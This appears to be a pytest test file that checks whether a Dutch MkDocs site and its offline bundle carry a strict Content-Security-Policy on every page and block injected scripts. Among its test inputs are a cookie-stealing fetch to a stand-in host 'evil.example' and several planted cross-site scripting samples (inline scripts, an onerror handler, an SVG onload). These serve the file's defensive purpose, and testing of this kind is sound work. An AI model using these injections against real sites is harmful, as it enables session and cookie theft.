"""The Content-Security-Policy: on every page, strict, and never in the way of the site itself.

Every built page carries the policy as the first thing in <head> after the charset, with no
'unsafe-inline' or 'unsafe-eval' for scripts. In Chromium, every page online and every page of
the offline bundle (file://) loads, searches, shows tooltips and runs the tools with zero
violations; and a script that got into a page anyway is refused (the control that shows the
policy is real, not decoration).
"""
from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest

from targets import page_carrying

from browser import serve, site_pages, wait_for
from macros import csp

CSP_WATCH = ("window.__csp = []; document.addEventListener('securitypolicyviolation', "
             "e => window.__csp.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample || ''} ${e.sourceFile}:${e.lineNumber}`));")
META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')


def all_html(site: Path) -> list[Path]:
    return sorted(site.rglob("*.html"))


def directives(policy: str) -> dict[str, list[str]]:
    out = {}
    for part in policy.split(";"):
        words = part.split()
        if words:
            out[words[0]] = words[1:]
    return out


def test_every_page_carries_a_strict_policy_first(site):
    pages = all_html(site)
    assert len(pages) > 30
    for path in pages:
        html = path.read_text(encoding="utf-8")
        found = META.findall(html)
        assert len(found) == 1, f"{path.name}: {len(found)} CSP meta elements"
        head = html[html.find("<head"):]
        assert head.find("Content-Security-Policy") < head.find("<script"), f"{path.name}: a script comes before the policy"
        policy = directives(found[0])
        assert policy["default-src"] == ["'none'"], path.name
        scripts = policy["script-src"]
        assert "'self'" in scripts and "'unsafe-inline'" not in scripts and "'unsafe-eval'" not in scripts, path.name
        assert "'unsafe-inline'" not in policy["style-src"], path.name
        # Every inline script of the page is one of the trusted shapes, allowed by its own hash.
        assert [h for h in scripts if h.startswith("'sha256-")] == csp.inline_hashes(html), path.name


def test_an_unknown_inline_script_stops_the_policy():
    with pytest.raises(csp.UnknownInlineScript):
        csp.policy("<html><head></head><body><script>fetch('https://evil.example/?'+document.cookie)</script></body></html>")
    # Data blocks and scripts with a file are no inline code.
    assert csp.inline_hashes('<script type="application/json">{"a": 1}</script><script src="a.js"></script>') == []


def visit_all(page, base: str, pages: list[str]) -> list[str]:
    bad = []
    for rel in pages:
        page.goto(base + rel, wait_until="load")
        page.wait_for_timeout(50)
        bad += [f"{rel}: {v}" for v in page.evaluate("window.__csp")]
    return bad


@pytest.fixture
def watched(browser):
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.add_init_script(CSP_WATCH)
    page = context.new_page()
    yield page
    context.close()


def test_no_violation_on_any_page_online(site, base_url, watched):
    pages = site_pages(site) + ["404.html"]
    assert visit_all(watched, base_url, pages) == []


def test_no_violation_while_searching_tooltips_and_tools_online(base_url, watched):
    page = watched
    page.goto(base_url + "valkuilen/aankoopprijs.html")
    page.locator("article abbr").first.hover()
    page.locator(".md-tooltip2").first.wait_for(state="attached", timeout=5000)
    page.keyboard.press("/")
    page.keyboard.type("aankoop")
    page.locator(".md-search-result__item").first.wait_for(timeout=10_000)
    assert page.evaluate("window.__csp") == []
    page.goto(base_url + page_carrying("assets/javascripts/aankoopwijzer.js") + "?thema=textiel")
    wait_for(page, "!document.getElementById('wijzer-plan').hidden")
    page.goto(base_url + page_carrying("assets/javascripts/levensduurkost.js"))
    page.click("#lk-vul-voorbeeld")
    page.click("#lk-formulier button[type=submit]")
    page.locator("#lk-uitkomst table").first.wait_for(timeout=5000)
    assert page.evaluate("window.__csp") == []


def test_no_violation_on_any_page_of_the_offline_bundle_and_search_works(bundle, watched):
    base = bundle.as_uri() + "/"
    pages = [p for p in site_pages(bundle)]
    assert len(pages) > 30
    assert visit_all(watched, base, pages) == []
    page = watched
    page.goto(base + "index.html")
    page.locator("input.md-search__input").fill("greenwashing", timeout=10_000)
    page.locator(".md-search-result__item").first.wait_for(timeout=10_000)
    assert page.evaluate("window.__csp") == []


def test_a_script_that_got_into_a_page_does_not_run(site, tmp_path, watched):
    """The control: the policy of a real page refuses an inline script and an event handler."""
    copy = tmp_path / "site"
    shutil.copytree(site, copy)
    target = copy / "over.html"
    html = target.read_text(encoding="utf-8")
    html = html.replace("</article>", '<script>window.__ran = 1</script><img src="x" onerror="window.__ran = 2"></article>', 1)
    target.write_text(html, encoding="utf-8")
    with serve(copy) as base:
        watched.goto(base + "over.html", wait_until="load")
        watched.wait_for_timeout(200)
        assert watched.evaluate("window.__ran") is None
        violations = watched.evaluate("window.__csp")
    assert any(v.startswith("script-src") for v in violations), violations


def test_only_the_local_preview_allows_inline_scripts():
    """`make serve` injects MkDocs' live-reload script (inline, different in every response): the
    preview's policy allows inline scripts; a published page's never does."""
    page = "<html><head><meta charset=\"utf-8\"></head><body><script>var target=document.getElementById(location.hash.slice(1));target&&target.name&&(target.checked=target.name.startsWith(\"__tabbed_\"))</script></body></html>"
    published = directives(csp.policy(page))
    preview = directives(csp.policy(page, preview=True))
    assert "'unsafe-inline'" not in published["script-src"] and any(h.startswith("'sha256-") for h in published["script-src"])
    assert preview["script-src"] == ["'self'", "'unsafe-inline'"]
    with pytest.raises(csp.UnknownInlineScript):
        csp.policy("<script>alert(1)</script>", preview=True)


# --- every document, not only the pages (issue 21) ---------------------------------------------------

DOCUMENTS = (".html", ".htm", ".xhtml")


def documents_without_policy(folder: Path) -> tuple[int, list[str]]:
    """(documents looked at, those a browser would run script in without our policy): every .html,
    .htm and .xhtml file must carry exactly one strict policy, and no SVG may hold a script."""
    checked, missing = 0, []
    for path in sorted(p for p in folder.rglob("*") if p.is_file()):
        suffix = path.suffix.lower()
        rel = path.relative_to(folder).as_posix()
        if suffix in DOCUMENTS:
            checked += 1
            found = META.findall(path.read_text(encoding="utf-8", errors="replace"))
            if len(found) != 1:
                missing.append(f"{rel}: {len(found)} policies")
            elif "'unsafe-inline'" in directives(found[0]).get("script-src", ["'unsafe-inline'"]):
                missing.append(f"{rel}: scripts not restricted")
        elif suffix == ".svg":
            checked += 1
            if csp.svg_runs_script(path.read_text(encoding="utf-8", errors="replace")):
                missing.append(f"{rel}: an SVG with a script")
    return checked, missing


def plant_faults(folder: Path) -> list[str]:
    """A page without the policy, an .htm and an .xhtml a plugin might write, an SVG with a script."""
    (folder / "zonder.html").write_text("<!doctype html><html><head><meta charset=\"utf-8\"></head><body></body></html>",
                                        encoding="utf-8")
    (folder / "oud.htm").write_text("<html><body><script>alert(1)</script></body></html>", encoding="utf-8")
    (folder / "x.xhtml").write_text('<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>', encoding="utf-8")
    (folder / "t.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', encoding="utf-8")
    return ["oud.htm: 0 policies", "t.svg: an SVG with a script", "x.xhtml: 0 policies", "zonder.html: 0 policies"]


def check_documents(folder: Path, tmp_path: Path, name: str) -> int:
    # The control, on every run: the walker finds each kind of document that lacks the policy.
    planted = tmp_path / f"geplant-{name}"
    planted.mkdir()
    shutil.copy(folder / "index.html", planted / "index.html")
    expected = plant_faults(planted)
    assert documents_without_policy(planted) == (5, expected)
    checked, missing = documents_without_policy(folder)
    print(f"\n  CSP-controle {name}: {checked} documenten nagekeken, {len(missing)} zonder beleid")
    assert checked > 30, f"{name}: only {checked} documents: the walker looked at nothing"
    assert missing == []
    return checked


def test_every_document_of_the_site_and_the_bundle_carries_the_policy(site, bundle, tmp_path, capsys):
    with capsys.disabled():
        check_documents(site, tmp_path, "site")
        check_documents(bundle, tmp_path, "offline bundel")


@pytest.fixture(scope="module")
def redirected(tmp_path_factory):
    """A copy of the repository with a page moved (a redirect stub), built online and offline."""
    from test_hostile import build, repo_copy  # the same copy of the repository as the hostile corpus

    root = repo_copy(tmp_path_factory.mktemp("verhuisd") / "repo")
    config = root / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace("      redirect_maps:\n",
                                                                 "      redirect_maps:\n        oud.md: over.md\n", 1),
                      encoding="utf-8")
    online = build(root)
    assert online.returncode == 0, online.stderr[-3000:]
    offline = build(root, env={"OFFLINE": "true"}, site="site-offline")
    assert offline.returncode == 0, offline.stderr[-3000:]
    return root / "site", root / "site-offline"


def test_redirect_stubs_and_plugin_pages_carry_it_online_and_offline(redirected, tmp_path, capsys):
    for folder in redirected:
        stub = (folder / "oud.html").read_text(encoding="utf-8")
        assert "Deze pagina is verhuisd" in stub and len(META.findall(stub)) == 1
        assert (folder / "404.html").is_file()
        with capsys.disabled():
            check_documents(folder, tmp_path, folder.name)


def test_a_document_that_cannot_carry_the_policy_stops_the_build(tmp_path):
    """overrides/hooks/veiligheid.py: a plugin's .htm gets the policy; a document without <head> or an SVG
    with a script stops the build."""
    import importlib.util
    from types import SimpleNamespace

    from mkdocs.exceptions import PluginError

    spec = importlib.util.spec_from_file_location("veiligheid_test", Path(__file__).parent.parent / "overrides/hooks/veiligheid.py")
    hook = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(hook)
    (tmp_path / "a.htm").write_text('<html><head><meta charset="utf-8"></head><body>a</body></html>', encoding="utf-8")
    hook.on_pre_build(None)
    hook.on_post_build(SimpleNamespace(site_dir=str(tmp_path)))
    assert len(META.findall((tmp_path / "a.htm").read_text(encoding="utf-8"))) == 1
    (tmp_path / "b.xhtml").write_text("<p>geen kop</p>", encoding="utf-8")
    (tmp_path / "c.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', encoding="utf-8")
    with pytest.raises(PluginError) as raised:
        hook.on_post_build(SimpleNamespace(site_dir=str(tmp_path)))
    assert "b.xhtml: een HTML-document zonder <head>" in str(raised.value) and "c.svg: een SVG-bestand" in str(raised.value)
